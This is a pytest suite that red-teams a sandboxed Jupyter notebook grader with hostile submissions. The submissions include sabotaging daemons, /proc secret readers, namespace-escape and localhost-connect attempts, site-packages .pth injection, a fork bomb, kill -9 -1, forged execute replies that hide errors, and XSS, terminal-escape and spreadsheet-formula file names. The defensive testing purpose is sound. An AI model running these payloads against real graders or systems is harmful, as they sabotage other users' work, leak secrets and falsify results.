"""Hostile submissions against ``nnscratch grade``, graded in ONE run inside the sandbox.

Each attack is a submission written below; the grader runs them all (``--jobs 2``) with
honest submissions sorted before and after them, then each test checks one attack was
contained. Bounded: every notebook has the run's timeout, daemons are found by a marker
unique to this test run (only processes this test started are looked at), and no test
asserts that honest work finished fast.

Without bubblewrap the suite is skipped with one line, except under CI
(``NNSCRATCH_CI=1``), where a missing sandbox fails.
"""

from __future__ import annotations

import csv
import hashlib
import json
import os
import re
import resource
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import time
import uuid
from pathlib import Path

import nbformat
import pytest
import yaml
from fixtures.notebook_factory import HOSTILE, project_notebook, write_notebook
from nbformat.v4 import new_code_cell, new_output

from nnscratch_tools.grading import load_rubric
from nnscratch_tools.grading.names import from_csv_cell
from nnscratch_tools.grading.report import verify_manifest
from nnscratch_tools.grading.sandbox import sandbox_problem
from nnscratch_tools.grading.shown import markdown

REPO = Path(__file__).resolve().parents[2]
RUBRIC = REPO / "projects" / "rubric.yml"
TIMEOUT = 150  # per notebook; only the infinite loop reaches it (honest work: ~15 s quiet)
GRACE = 240  # what grading may add to the timeout: sandbox, kernel start-up, clean-up
MARKER = f"nnscratch-hostile-{uuid.uuid4().hex}"
SECRET = f"SECRET-{uuid.uuid4().hex}"
PNG = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="
)
RUNNER = REPO / "nnscratch_tools" / "grading" / "_runner.py"
EXAMPLES = sorted((REPO / "projects" / "examples").glob("*.ipynb"))


_PROBLEM = sandbox_problem()
if _PROBLEM is not None and os.environ.get("NNSCRATCH_CI") != "1":
    # One skip line for the whole suite without bubblewrap; under CI the fixture fails.
    pytest.skip(f"hostile-submission suite skipped: {_PROBLEM}", allow_module_level=True)


def _needs_sandbox() -> None:
    problem = sandbox_problem()
    if problem is None:
        return
    if os.environ.get("NNSCRATCH_CI") == "1":
        pytest.fail(f"NNSCRATCH_CI=1 but no sandbox: {problem}")
    pytest.skip(f"hostile-submission suite skipped: {problem}")


def _daemon(code: str) -> str:
    """Notebook code that leaves a detached process running ``code`` (marked)."""
    return (
        "import subprocess, sys\n"
        f"subprocess.Popen([sys.executable, '-c', {code!r}, {MARKER!r}],\n"
        "                 start_new_session=True, stdout=subprocess.DEVNULL,\n"
        "                 stderr=subprocess.DEVNULL)\n"
    )


def _double_fork(code: str) -> str:
    return (
        "import os, sys\n"
        "if os.fork() == 0:\n"
        "    os.setsid()\n"
        "    if os.fork() == 0:\n"
        f"        os.execv(sys.executable, [sys.executable, '-c', {code!r}, {MARKER!r}])\n"
        "    os._exit(0)\n"
        "os.wait()\n"
    )


# Code of the daemons: sabotage anything reachable for a while.
_SABOTEUR = f"""
import glob, os, time
end = time.time() + 45
while time.time() < end:
    for pattern in ['/proc/*/root/**/*.ipynb', '/proc/*/cwd/**/*.ipynb', '/tmp/**/*.ipynb',
                    '/**/grades.csv', '/**/result.json', '/**/executed.ipynb', '/**/*.pth']:
        for path in glob.glob(pattern, recursive=True)[:200]:
            try:
                with open(path, 'a') as f:
                    f.write('import os; os._exit(3)')
            except OSError:
                pass
    for path in [{str(RUNNER)!r}]:
        try:
            open(path, 'a').write('raise SystemExit')
        except OSError:
            pass
    time.sleep(1)
"""


def _reader(paths: list[str]) -> str:
    """Notebook code reading whatever it can of ``paths`` and through /proc, printing any
    file that holds the secret (spelt backwards here, so the source does not hold it)."""
    return f"""
import glob, os
secret = {SECRET[::-1]!r}[::-1]
tried = leaks = 0
for path in {paths!r} + glob.glob('/proc/*/root/*') + glob.glob('/proc/*/cwd/*'):
    names = [path]
    try:
        if os.path.isdir(path):
            names = [os.path.join(path, n) for n in os.listdir(path)[:100]]
    except OSError as exc:
        print(path, type(exc).__name__)
    for name in names:
        tried += 1
        try:
            if not os.path.isfile(name):  # regular files only: /dev/tty would block
                raise IsADirectoryError(name) if os.path.isdir(name) else FileNotFoundError(name)
            with open(name, 'rb') as f:
                if secret.encode() in f.read(100_000):
                    leaks += 1
                    print('LEAK', name)
        except OSError as exc:
            if name in {paths!r}:
                print(name, type(exc).__name__)
print('tried', tried, 'leaks', leaks)
"""


def _escape(port: int) -> str:
    """umount, setns into every visible namespace, then reach the grader's 127.0.0.1."""
    return f"""
import ctypes, glob, os, socket, subprocess
libc = ctypes.CDLL(None, use_errno=True)
print('umount', libc.umount2(b'/submission', 2), subprocess.run(['umount', '/tmp'],
      capture_output=True).returncode)
for ns in glob.glob('/proc/*/ns/net') + glob.glob('/proc/*/ns/mnt'):
    try:
        fd = os.open(ns, os.O_RDONLY)
        print('setns', ns, libc.setns(fd, 0))
    except OSError as exc:
        print('setns', ns, exc)
for host in ['127.0.0.1', '10.0.2.2', '172.17.0.1']:
    try:
        socket.create_connection((host, {port}), timeout=2).sendall(b'{MARKER}')
        print('CONNECTED', host)
    except OSError as exc:
        print('refused', host, exc)
print('unshare', libc.unshare(0x10000000))
"""


def _nb_with_stored(cells_spec: list[tuple[str, dict, list]]) -> nbformat.NotebookNode:
    nb = project_notebook(figure=False)
    for source, metadata, outputs in cells_spec:
        cell = new_code_cell(source)
        cell.metadata.update(metadata)
        cell.outputs = outputs
        cell.execution_count = 1
        nb.cells.insert(-1, cell)
    return nb


def _image() -> dict:
    return new_output("display_data", data={"image/png": PNG, "text/plain": "<Figure>"})


def _write_all(subs: Path, out: Path, port: int, private_paths: list[str]) -> dict[str, str]:
    """Write every submission; returns name -> what it attacks (for the report)."""
    attacks: dict[str, str] = {}

    def add(name: str, what: str, nb: nbformat.NotebookNode, folder: bool = False) -> None:
        attacks[name] = what
        path = subs / name / "submission.ipynb" if folder else subs / f"{name}.ipynb"
        write_notebook(nb, path)

    honest = project_notebook()
    write_notebook(honest, subs / "aa_honest.ipynb")
    write_notebook(honest, subs / "zz_honest.ipynb")
    for example in EXAMPLES:  # the worked example, graded after every attack
        shutil.copyfile(example, subs / f"zz_example_{example.name}")
    code = project_notebook
    add("popen_daemon", "a start_new_session daemon outliving the grader",
        code(extra_code=_daemon("import time; time.sleep(600)")))
    add("double_fork", "a double-fork setsid daemon that sabotages classmates",
        code(extra_code=_double_fork(_SABOTEUR)))
    add("saboteur_daemon", "a detached daemon rewriting notebooks, grades, results, .pth",
        code(extra_code=_daemon(_SABOTEUR)))
    add("reader", "reads /proc/*/root, the originals, rubric, manual.csv, home, repo",
        code(extra_code=_reader(private_paths)))
    add("escape", "umount, setns, unshare, connect to the grader's 127.0.0.1",
        code(extra_code=_escape(port)))
    add("tamper_env", "patches the runner and drops a .pth into site-packages",
        code(extra_code=(
            "import site, sys, os\n"
            "for d in site.getsitepackages() + sys.path:\n"
            "    try:\n"
            "        open(os.path.join(d, 'zz_evil.pth'), 'w').write('import os; os._exit(4)')\n"
            "    except OSError as e:\n"
            "        print('refused', d, type(e).__name__)\n"
            f"open({str(RUNNER)!r}, 'a').write('raise SystemExit')\n"
        )))
    # A folder that shadows the runner (old `python -m nnscratch.grading._runner` attack).
    fake = (
        "import json, pathlib, sys\n"
        "for p in sys.argv[1:]:\n"
        "    pathlib.Path(p).parent.joinpath('result.json').write_text("
        "json.dumps({'status': 'completed'}))\n"
    )
    shadow = subs / "shadow"
    for package in ("nnscratch/grading", "nnscratch_tools/grading"):
        (shadow / package).mkdir(parents=True)
        (shadow / package / "_runner.py").write_text(fake, encoding="utf-8")
        (shadow / package.split("/")[0] / "__init__.py").write_text("", encoding="utf-8")
        (shadow / package / "__init__.py").write_text("", encoding="utf-8")
    add("shadow", "a folder holding nnscratch(_tools)/grading/_runner.py",
        code(extra_code="raise RuntimeError('this notebook fails')"), folder=True)
    add("blank_image", "a stored image in a blank cell",
        _nb_with_stored([("", {}, [_image()])]))
    add("skip_image", "a stored image in a skip-execution cell",
        _nb_with_stored([("x = 1", {"tags": ["skip-execution"]}, [_image()])]))
    add("hide_traceback", "get_ipython()._showtraceback overridden, three failing cells",
        _nb_with_stored([
            ("ip = get_ipython()\nip._showtraceback = lambda *a, **k: None\n"
             "ip.showtraceback = lambda *a, **k: None", {}, []),
            ("1 / 0", {}, []), ("raise ValueError('x')", {}, []), ("undefined_name", {}, []),
        ]))
    dead = project_notebook(figure=False)
    dead.cells.insert(-1, new_code_cell("import os\nos._exit(1)"))
    after = new_code_cell("print('after')")
    after.outputs = [_image()]
    dead.cells.insert(-1, after)
    add("after_dead_kernel", "stored figures after a cell that kills the kernel", dead)
    add("fake_replies", "stored error-free outputs and execution counts, then a failing cell",
        _nb_with_stored([("raise KeyError('k')", {"tags": ["raises-exception"]},
                          [new_output("stream", name="stdout", text="fine")])]))
    add("tmp_flood", "floods /tmp and its folder with files, chmod 000 folders",
        code(extra_code=(
            "import os\n"
            "for root in ['/tmp', '.']:\n"
            "    d = os.path.join(root, 'flood')\n"
            "    os.makedirs(d, exist_ok=True)\n"
            "    try:\n"
            "        for i in range(20000):\n"
            "            open(os.path.join(d, str(i)), 'w').write('x' * 100)\n"
            "        big = open(os.path.join(root, 'big'), 'wb')\n"
            "        for i in range(200):\n"
            "            big.write(b'x' * 2**20)\n"
            "    except OSError as e:\n"
            "        print('stopped', type(e).__name__)\n"
            "    os.chmod(d, 0)\n"
            "os.chmod('.', 0)\n"
        )))
    add("fork_bomb", "forks until the process limit",
        code(extra_code=(
            "import os, time\n"
            "kids = 0\n"
            "try:\n"
            "    for _ in range(300):\n"
            "        if os.fork() == 0:\n"
            "            time.sleep(600); os._exit(0)\n"
            "        kids += 1\n"
            "except OSError as e:\n"
            "    print('fork refused after', kids, type(e).__name__)\n"
        )))
    add("kill_all", "kill -9 -1 inside the sandbox", code(extra_code=(
        "import os, signal\ntry:\n    os.kill(-1, signal.SIGKILL)\nexcept OSError:\n    pass\n"
    )))
    for name, (writer, _) in HOSTILE.items():  # the broken submissions of the first grader
        attacks[name] = "broken: " + name
        writer(subs / f"{name}.ipynb")
    # One student stops the class: names and entries.
    write_notebook(honest, subs / ("L" * 250) / "submission.ipynb")  # a 250-character folder
    write_notebook(honest, subs / ("long_" + "x" * 240 + ".ipynb"))
    write_notebook(honest, subs / "UPPER.IPYNB")
    write_notebook(honest, subs / ".hidden.ipynb")
    write_notebook(honest, subs / "bob .ipynb")
    write_notebook(honest, subs / "=HYPERLINK(1).ipynb")
    write_notebook(honest, subs / "tab\tname.ipynb")
    _write_second_team(subs, add, out.parent / "home")
    (subs / "notes.txt").write_text("not a submission", encoding="utf-8")
    os.symlink("/proc/self/mem", subs / "mem.ipynb")
    os.symlink(subs / "aa_honest.ipynb", subs / "link_to_honest.ipynb")
    (subs / "memfolder").mkdir()
    os.symlink("/proc/self/mem", subs / "memfolder" / "submission.ipynb")
    os.mkfifo(subs / "fifo.ipynb")
    return attacks


# ----------------------------------------------------------- second red team (issue 24)
#: Where the kernel may write outside its private /tmp and working folder: the folder of
#: its connection file (a host folder bound read-write before) and its socket folder.
_KERNEL_FOLDERS = (
    "import os, sys\n"
    "folders = [os.path.dirname(sys.argv[sys.argv.index('-f') + 1]), '/run/nnscratch-kernel']\n"
)
_CHAIN = _KERNEL_FOLDERS + (
    "for folder in folders:\n"
    "    depth = 0\n"
    "    try:\n"
    "        os.chdir(folder)\n"
    "        for _ in range(3000):\n"
    "            os.mkdir('d'); os.chdir('d'); depth += 1\n"
    "    except OSError as e:\n"
    "        print('chain stopped', type(e).__name__)\n"
    "    print('chain', folder, depth)\n"
    "os.chdir('/submission')\n"
)
_FILL = _KERNEL_FOLDERS + (
    "for folder in folders:\n"
    "    written = 0\n"
    "    try:\n"
    "        for i in range(16):\n"
    "            with open(os.path.join(folder, f'fill{i}'), 'wb') as f:\n"
    "                for _ in range(64):\n"
    "                    f.write(b'x' * 2**20); written += 2**20\n"
    "    except OSError as e:\n"
    "        print('fill stopped', type(e).__name__)\n"
    "    print('filled', folder, written // 2**20, 'MiB')\n"
)
_AMPLIFY = (
    "from IPython.display import display\n"
    "for _ in range(48):\n"
    "    display({'text/plain': 'x'}, raw=True, display_id='same')\n"
    "display({'text/plain': 'y' * 4_000_000}, raw=True, display_id='same', update=True)\n"
)
_WIDGETS = (
    "import ipywidgets\n"
    "keep = [ipywidgets.Image(value=bytes(6_000_000)) for _ in range(20)]\n"
    "for w in keep:\n"
    "    w.value = bytes(6_000_001)\n"
)
#: Three kernels that lie about errors through IPython's public hooks.
_LIE_HOOK = (
    "def forget(result):\n"
    "    result.error_in_exec = None\n"
    "get_ipython().events.register('post_run_cell', forget)\n"
)
_LIE_TRANSFORMER = (
    "def blank(lines):\n"
    "    return [] if any('raise' in line for line in lines) else lines\n"
    "get_ipython().input_transformers_cleanup.append(blank)\n"
)
_LIE_REPLY = (
    "shell = get_ipython()\n"
    "shell._showtraceback = lambda *a, **k: None\n"
    "session = shell.kernel.session\n"
    "send = session.send\n"
    "def forged(stream, msg, content=None, *a, **k):\n"
    "    if msg == 'execute_reply' and content and content.get('status') == 'error':\n"
    "        content = {'status': 'ok', 'execution_count': content.get('execution_count'),\n"
    "                   'user_expressions': {}, 'payload': []}\n"
    "    return send(stream, msg, content, *a, **k)\n"
    "session.send = forged\n"
)
EVIL_NAME = "\x1b]0;pwned\x07\x1b[2K<img src=x onerror=alert(1)>`tick`"
_EVIL_ERROR = (
    f"Evil = type({EVIL_NAME!r}, (Exception,), {{}})\n"
    "raise Evil('first\\n  aa_honest 1.0 s  10/10  ok\\x1b[1A <script>alert(2)</script> `x`')\n"
)


def _with_failing_cell(setup: str) -> nbformat.NotebookNode:
    """A sectioned notebook whose code runs ``setup``, then a cell that raises."""
    nb = project_notebook(extra_code=setup)
    nb.cells.insert(-1, new_code_cell("raise ValueError('this cell fails')"))
    return nb


def _setext(nb: nbformat.NotebookNode) -> nbformat.NotebookNode:
    """The same notebook with setext headings, and one ATX heading indented by a space."""
    for cell in nb.cells:
        if cell.cell_type == "markdown" and cell.source.startswith("## "):
            title, _, rest = cell.source[3:].partition("\n")
            cell.source = f"{title}\n{'-' * len(title)}\n{rest}"
    nb.cells[0].source = " " + nb.cells[0].source
    return nb


def _write_second_team(subs: Path, add, home: Path) -> None:  # type: ignore[no-untyped-def]
    """The submissions of the second red team (issue 24)."""
    deep = subs / "deep_nesting"
    write_notebook(project_notebook(), deep / "submission.ipynb")
    chain = deep / "d"
    chain.mkdir()
    fd = os.open(chain, os.O_RDONLY)
    for _ in range(1100):  # relative to a descriptor: no path grows past PATH_MAX
        os.mkdir("d", dir_fd=fd)
        inner = os.open("d", os.O_RDONLY, dir_fd=fd)
        os.close(fd)
        fd = inner
    os.close(fd)
    code = project_notebook
    add("conn_chain", "a 3000-deep folder chain in the kernel's writable folders",
        code(extra_code=_CHAIN))
    add("conn_fill", "1 GiB written through the kernel's connection folder",
        code(extra_code=_FILL))
    add("display_amplify", "48 outputs sharing a display_id, then one 4 MB update",
        code(extra_code=_AMPLIFY))
    add("widget_buffers", "20 widgets with 6 MB buffers, each updated",
        code(extra_code=_WIDGETS))
    add("lie_hook", "a post_run_cell hook that clears the error", _with_failing_cell(_LIE_HOOK))
    add("lie_transformer", "an input transformer that blanks the failing cells",
        _with_failing_cell(_LIE_TRANSFORMER))
    add("lie_reply", "forged, signed execute replies; tracebacks hidden",
        _with_failing_cell(_LIE_REPLY))
    combined = project_notebook(sections=False)
    prose = project_notebook().cells[1].source.split("\n\n", 1)[1]
    combined.cells.insert(1, nbformat.v4.new_markdown_cell(
        f"## Math, code, results and takeaways\n\n{prose}"))
    add("headings_combined", "one heading naming all four sections", combined)
    titled = project_notebook()
    titled.cells[0].source = "# Optimiser code and results"
    titled.cells.insert(1, new_code_cell("import numpy as np  # set-up under the title"))
    code_heading = next(i for i, c in enumerate(titled.cells) if c.source == "## 2. Code")
    titled.cells.pop(code_heading + 1)  # the Code section is left empty
    add("headings_title", "a title naming code and results over an empty Code section", titled)
    add("honest_setext", "honest work with setext headings and an indented one",
        _setext(project_notebook()))
    outputs = subs / "honest_md_outputs.ipynb"
    write_notebook(project_notebook(), outputs)
    raw = json.loads(outputs.read_text(encoding="utf-8"))
    for cell in raw["cells"]:
        if cell["cell_type"] == "markdown":
            cell["outputs"] = []
    outputs.write_text(json.dumps(raw), encoding="utf-8")
    write_notebook(project_notebook(), subs / "bob.ipynb")  # sorts after "bob .ipynb"
    write_notebook(project_notebook(), subs / "b\u043eb.ipynb")  # Cyrillic o: looks like bob
    add("<img src=x onerror=alert(3)>", "escapes and HTML in an exception and a file name",
        code(extra_code=_EVIL_ERROR))
    many = project_notebook()
    many.cells[-1:-1] = [new_code_cell("x = 1") for _ in range(30_000)]
    add("many_cells", "30,000 cells", many)
    linked = subs / "hardlink"
    write_notebook(project_notebook(extra_code=(
        "import os\n"
        "text = open('data.csv').read() if os.path.exists('data.csv') else ''\n"
        f"print('LEAK' if {SECRET[::-1]!r}[::-1] in text else 'no secret', 'data.csv',\n"
        "      os.path.exists('data.csv'))\n"
    )), linked / "submission.ipynb")
    os.link(home / "secret.txt", linked / "data.csv")


def _listen(port_holder: dict) -> socket.socket:
    server = socket.socket()
    server.bind(("0.0.0.0", 0))
    server.listen()
    server.settimeout(0.5)
    port_holder["port"] = server.getsockname()[1]
    port_holder["connections"] = 0

    def accept() -> None:
        while not port_holder.get("stop"):
            try:
                conn, _ = server.accept()
                port_holder["connections"] += 1
                conn.close()
            except OSError:
                continue

    threading.Thread(target=accept, daemon=True).start()
    return server


def _marked_processes() -> list[str]:
    """Processes whose command line holds this run's marker (only ours can)."""
    found = []
    for entry in Path("/proc").glob("[0-9]*"):
        try:
            cmdline = (entry / "cmdline").read_bytes()
        except OSError:
            continue
        if MARKER.encode() in cmdline:
            found.append(cmdline.replace(b"\0", b" ")[:200].decode("utf-8", "replace"))
    return found


def _digest(paths: list[Path]) -> dict[str, str]:
    out = {}
    for root in paths:
        files = [root] if root.is_file() else sorted(p for p in root.rglob("*") if p.is_file())
        for p in files:
            out[str(p)] = hashlib.sha256(p.read_bytes()).hexdigest()
    return out


#: Address space of the grader itself (and each process it starts) during the one run.
GRADER_MEMORY = 3 * 2**30


def _limit_grader_memory() -> None:
    resource.setrlimit(resource.RLIMIT_AS, (GRADER_MEMORY, GRADER_MEMORY))


def _leftovers_of_a_killed_grader() -> list[Path]:
    """A scratch folder (and a cgroup, where writable) of a grader that was SIGKILLed."""
    from nnscratch_tools.grading.sandbox import CGROUP_PREFIX, _own_cgroup_v1

    dead = subprocess.Popen(["true"])
    dead.wait()  # its pid now names no process
    scratch = Path(tempfile.gettempdir()) / f"nnscratch-grade-{dead.pid}-killed"
    (scratch / "s1" / "run").mkdir(parents=True)
    (scratch / "s1" / "run" / "executed.ipynb").write_text("{}", encoding="utf-8")
    found = [scratch]
    parent = _own_cgroup_v1("memory")
    if parent is not None:
        cgroup = parent / f"{CGROUP_PREFIX}{dead.pid}-killed"
        try:
            cgroup.mkdir()
            found.append(cgroup)
        except OSError:
            pass
    return found


@pytest.fixture(scope="module")
def graded(tmp_path_factory: pytest.TempPathFactory):  # type: ignore[no-untyped-def]
    """Grade every hostile submission with honest ones, once, with the command line,
    ``--jobs 2``, the grader's own address space limited to :data:`GRADER_MEMORY`."""
    _needs_sandbox()
    root = tmp_path_factory.mktemp("hostile")
    subs, out, home = root / "submissions", root / "grades", root / "home"
    subs.mkdir()
    home.mkdir()
    (home / "secret.txt").write_text(SECRET, encoding="utf-8")
    (root / "manual.csv").write_text(f"submission,{SECRET}\n", encoding="utf-8")
    rubric_data = yaml.safe_load(RUBRIC.read_text(encoding="utf-8"))
    rubric_data["limits"] = {"timeout_s": TIMEOUT, "memory_mb": 2048, "disk_mb": 64,
                             "processes": 128}  # fmt: skip
    rubric = root / "rubric.yml"
    rubric.write_text(f"# {SECRET}\n" + yaml.safe_dump(rubric_data), encoding="utf-8")
    holder: dict = {}
    server = _listen(holder)
    private = [str(subs), str(subs / "aa_honest.ipynb"), str(root / "manual.csv"), str(rubric),
               str(home), str(home / "secret.txt"), str(out), str(REPO), str(REPO / "nnscratch")]
    from nnscratch_tools.grading.grader import _remove

    try:
        attacks = _write_all(subs, out, holder["port"], private)
        site = next(Path(p) for p in sys.path if p.endswith("site-packages"))
        before_site = sorted(p.name for p in site.iterdir())
        before_code = _digest([REPO / "nnscratch_tools"])
        originals = _digest([subs / "aa_honest.ipynb", subs / "popen_daemon.ipynb"])
        env = {**os.environ, "HOME": str(home)}
        leftovers = _leftovers_of_a_killed_grader()
        start = time.monotonic()
        grader = subprocess.Popen(
            [sys.executable, "-m", "nnscratch_tools", "grade", str(subs), "--rubric", str(rubric),
             "--out", str(out), "--jobs", "2"],
            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, cwd=REPO, env=env,
            preexec_fn=_limit_grader_memory,
        )  # fmt: skip
        stdout, stderr = grader.communicate(timeout=1500)
        done = subprocess.CompletedProcess(grader.args, grader.returncode, stdout, stderr)
        wall = time.monotonic() - start
        time.sleep(3)  # give any surviving daemon time to act after the grader ended
        holder["stop"] = True
        server.close()
        with open(out / "grades.csv", newline="", encoding="utf-8") as handle:
            rows = {r["submission"]: r for r in csv.DictReader(handle)}
        own_scratch = list(Path(tempfile.gettempdir()).glob(f"nnscratch-grade-{grader.pid}-*"))
        yield {
            "leftovers": [p for p in leftovers if p.exists()], "own_scratch": own_scratch,
            "done": done, "rows": rows, "out": out, "subs": subs, "attacks": attacks,
            "connections": holder["connections"], "wall": wall, "rubric": rubric,
            "site_same": sorted(p.name for p in site.iterdir()) == before_site,
            "code_same": _digest([REPO / "nnscratch_tools"]) == before_code,
            "originals_same": _digest([subs / "aa_honest.ipynb", subs / "popen_daemon.ipynb"])
            == originals,
            "processes": _marked_processes(),
        }  # fmt: skip
    finally:  # pytest's own clean-up recurses: never leave the 1,100-deep chain behind
        _remove(subs / "deep_nesting")


def _row(graded: dict, name: str) -> dict[str, str]:
    assert name in graded["rows"], (name, sorted(graded["rows"]), graded["done"].stdout[-3000:])
    return graded["rows"][name]


def _outputs(graded: dict, name: str) -> str:
    """The text of every output of ``name``'s executed copy (not its source)."""
    executed = nbformat.read(graded["out"] / "executed" / f"{name}.ipynb", as_version=4)
    texts = []
    for cell in executed.cells:
        for out in cell.get("outputs", []):
            texts += [str(out.get("text", "")), str(out.get("evalue", ""))]
            texts += [str(v) for v in out.get("data", {}).values()]
    return "\n".join(texts)


def _everything_written(graded: dict) -> str:
    out: Path = graded["out"]
    return "\n".join(
        p.read_text("utf-8", "replace")
        for p in out.rglob("*")
        if p.is_file() and p.name != "rubric.yml"  # the grader's own copy of the rubric
    )


def test_the_run_finishes_and_every_entry_has_a_row(graded: dict) -> None:
    done = graded["done"]
    assert done.returncode == 0, done.stdout[-3000:] + done.stderr[-3000:]
    rows = graded["rows"]
    for name in [*graded["attacks"], "aa_honest", "zz_honest", "UPPER", *BOBS, "notes.txt",
                 "mem", "link_to_honest", "memfolder", "fifo", ".hidden", "tab name",
                 "deep_nesting", "hardlink", "honest_setext", "honest_md_outputs"]:
        _row(graded, name)
    assert len(rows) == len(os.listdir(graded["subs"]))  # every entry, no more, no less
    verify_manifest(graded["out"])  # and there is a manifest, under the memory limit
    assert resource.RLIM_INFINITY != GRADER_MEMORY


#: The three students whose names look alike: each row names its file, none is bare "bob".
BOBS = ("bob [bob.ipynb]", "bob [bob\\x20.ipynb]", "b\u043eb [b\\u043eb.ipynb]")


def test_honest_work_keeps_full_marks_around_hostile_ones(graded: dict) -> None:
    examples = [f"zz_example_{e.stem}" for e in EXAMPLES]
    assert examples, "projects/examples/ has no worked example"
    for name in ("aa_honest", "zz_honest", "UPPER", *BOBS, "honest_setext",
                 "honest_md_outputs", *examples):
        row = _row(graded, name)
        assert (row["status"], row["automatic_points"]) == ("ok", "10"), row


def test_no_process_outlives_its_sandbox(graded: dict) -> None:
    assert graded["processes"] == []
    for name in ("popen_daemon", "double_fork", "saboteur_daemon"):
        feedback = (graded["out"] / "feedback" / f"{name}.md").read_text("utf-8")
        assert "no process of the sandbox is left" in feedback


def test_nothing_outside_the_copy_is_read(graded: dict) -> None:
    assert SECRET not in _everything_written(graded)
    text = _outputs(graded, "reader")
    assert "FileNotFoundError" in text and " leaks 0" in text and "LEAK" not in text, text


def test_nothing_outside_the_copy_is_written(graded: dict) -> None:
    assert graded["code_same"], "the grader's own code changed"
    assert graded["site_same"], "a file appeared in (or left) site-packages"
    assert graded["originals_same"], "an original submission changed"
    verify_manifest(graded["out"])  # grades.csv untouched after the grader ended


def test_network_and_namespace_escapes_fail(graded: dict) -> None:
    assert graded["connections"] == 0
    text = _outputs(graded, "escape")
    assert "CONNECTED" not in text and "refused 127.0.0.1" in text
    assert "umount -1" in text and "unshare -1" in text  # both refused
    assert not re.search(r"^setns \S+ 0$", text, flags=re.M)  # every setns refused
    feedback = (graded["out"] / "feedback" / "escape.md").read_text("utf-8")
    assert "checked inside the sandbox: no network" in feedback
    assert "check failed inside the sandbox" not in feedback


def test_shadowing_runner_is_never_run(graded: dict) -> None:
    row = _row(graded, "shadow")
    assert row["no_errors"] == "0" and "RuntimeError" in row["reason"], row


@pytest.mark.parametrize("name", ["blank_image", "skip_image", "after_dead_kernel"])
def test_stored_figures_do_not_count(graded: dict, name: str) -> None:
    assert _row(graded, name)["figures_produced"] == "0"


def test_dead_kernel_stops_the_count(graded: dict) -> None:
    row = _row(graded, "after_dead_kernel")
    assert row["status"] == "incomplete" and row["runs_top_to_bottom"] == "0", row
    executed = nbformat.read(graded["out"] / "executed" / "after_dead_kernel.ipynb", 4)
    dead = next(i for i, c in enumerate(executed.cells) if "os._exit(1)" in c.source)
    assert not any(c.get("outputs") for c in executed.cells[dead + 1 :])


@pytest.mark.parametrize("name", ["hide_traceback", "fake_replies", "shadow"])
def test_errors_come_from_execute_replies(graded: dict, name: str) -> None:
    row = _row(graded, name)
    assert row["no_errors"] == "0", row
    if name == "hide_traceback":
        assert "3 cell(s) raised" in row["reason"], row


@pytest.mark.parametrize(
    ("name", "reason", "zero"),
    [
        ("infinite_loop", f"did not finish within {TIMEOUT} s", "runs_top_to_bottom"),
        ("memory_hog", "MemoryError", "no_errors"),
        ("os_exit", "kernel died (exit status 1)", "runs_top_to_bottom"),
        ("kill_kernel", "kernel died (killed by signal 9)", "runs_top_to_bottom"),
        ("sys_exit", "SystemExit", "no_errors"),
        ("huge_output", "output truncated", None),
        ("network", "OSError", "no_errors"),
        ("malformed_json", "not a readable notebook", "sections_present"),
        ("no_sections", "", "sections_present"),
    ],
)
def test_broken_submission_is_recorded_with_its_reason(
    graded: dict, name: str, reason: str, zero: str | None
) -> None:
    row = _row(graded, name)
    assert row["status"] in HOSTILE[name][1].split("|"), row
    assert reason in row["reason"], row
    if zero is not None:
        assert row[zero] == "0", row


def test_rows_are_complete_and_bounded(graded: dict) -> None:
    rubric = load_rubric(graded["rubric"])
    for name, row in graded["rows"].items():
        assert float(row["wall_s"]) <= TIMEOUT + GRACE, (name, row["wall_s"])
        for c in rubric.manual:
            assert row[c.id] == "", "manual criteria must be left blank"
        for c in rubric.automatic:
            assert 0 <= float(row[c.id]) <= c.points
        assert row["total"] == "" and row["max_points"] == "100"
        feedback = graded["out"] / row["feedback"]
        header = f"# Feedback: {markdown(from_csv_cell(name))}\n"
        assert feedback.is_file() and header in feedback.read_text("utf-8")
    executed = graded["out"] / "executed" / "huge_output.ipynb"
    assert executed.stat().st_size < 5_000_000


def test_resource_attacks_are_contained(graded: dict) -> None:
    assert _row(graded, "infinite_loop")["status"] == "incomplete"
    assert "did not finish within" in _row(graded, "infinite_loop")["reason"]
    bomb = _outputs(graded, "fork_bomb")
    feedback = (graded["out"] / "feedback" / "fork_bomb.md").read_text("utf-8")
    if "(pids cgroup)" in feedback:
        assert "fork refused after" in bomb
    assert "stopped OSError" in _outputs(graded, "tmp_flood")  # the private /tmp is capped
    for name in ("tmp_flood", "fork_bomb", "kill_all"):
        assert _row(graded, name)["status"] in ("ok", "incomplete"), _row(graded, name)


def test_skipped_entries_say_why(graded: dict) -> None:
    rows = graded["rows"]
    assert "symbolic link" in rows["mem"]["reason"]
    assert "symbolic link" in rows["link_to_honest"]["reason"]
    assert "hidden" in rows[".hidden"]["reason"]
    assert "not a notebook" in rows["notes.txt"]["reason"]
    assert "not a regular file" in rows["fifo"]["reason"]
    assert "no .ipynb" in rows["memfolder"]["reason"]
    for name in ("mem", ".hidden", "notes.txt", "fifo", "link_to_honest"):
        assert rows[name]["status"] == "skipped"


def test_long_names_are_capped_and_graded(graded: dict) -> None:
    long_rows = [n for n in graded["rows"] if n.startswith(("LLLL", "long_"))]
    assert len(long_rows) == 2 and all(len(n) <= 80 for n in long_rows)
    assert all(len(Path(r["feedback"]).name) < 100 for r in graded["rows"].values())
    assert graded["rows"][next(n for n in long_rows if n.startswith("long_"))][
        "automatic_points"
    ] == "10"


def test_formula_names_are_neutralised(graded: dict) -> None:
    text = (graded["out"] / "grades.csv").read_text("utf-8")
    assert "\n'=HYPERLINK(1)," in text and "\n=HYPERLINK" not in text


def test_merge_matches_names_and_refuses_tampering(graded: dict, tmp_path: Path) -> None:
    out = tmp_path / "grades"
    shutil.copytree(graded["out"], out)
    rubric = load_rubric(graded["rubric"])
    with open(out / "grades.csv", newline="", encoding="utf-8") as handle:
        names = [r["submission"] for r in csv.DictReader(handle) if r["status"] != "skipped"]
    manual = tmp_path / "manual.csv"
    with open(manual, "w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["submission", *(c.id for c in rubric.manual)])
        for name in names:  # as a spreadsheet would give them back: quotes gone, spaces added
            shown = name[1:] if name.startswith("'=") else name
            writer.writerow([shown + " ", *(["1"] * len(rubric.manual))])
